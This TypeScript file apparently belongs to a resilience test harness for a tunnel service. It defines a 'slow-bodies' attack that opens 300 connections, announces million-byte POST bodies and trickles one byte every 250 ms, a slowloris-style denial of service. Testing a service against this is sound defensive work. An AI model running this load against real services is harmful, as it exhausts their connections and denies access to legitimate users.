// Bodies that never end, each holding a stream of the honest tunnel and a connection to its app.

import type { Attack } from '../scene/attack.ts'
import { add, loops, open, send } from '../scene/wire.ts'

const CONNECTIONS = 300
const BETWEEN_BYTES_MS = 250

export const attacks: readonly Attack[] = [
  {
    name: 'slow-bodies',
    does: `${CONNECTIONS} uploads that arrive byte by byte, to the tunnel of the honest client`,
    attack: (target, tally, until) =>
      loops(
        CONNECTIONS,
        until,
        async () => {
          const socket = await open({ port: target.port })
          add(tally, 'connections')
          await send(
            socket,
            `POST /swallow HTTP/1.1\r\nHost: ${target.honestHost}\r\nContent-Length: 1000000\r\n\r\n`,
          )
          while (!until.aborted && (await send(socket, 'x', until))) {
            add(tally, 'bytes')
            await Bun.sleep(BETWEEN_BYTES_MS)
          }
          socket.destroy()
        },
        100,
      ),
  },
]
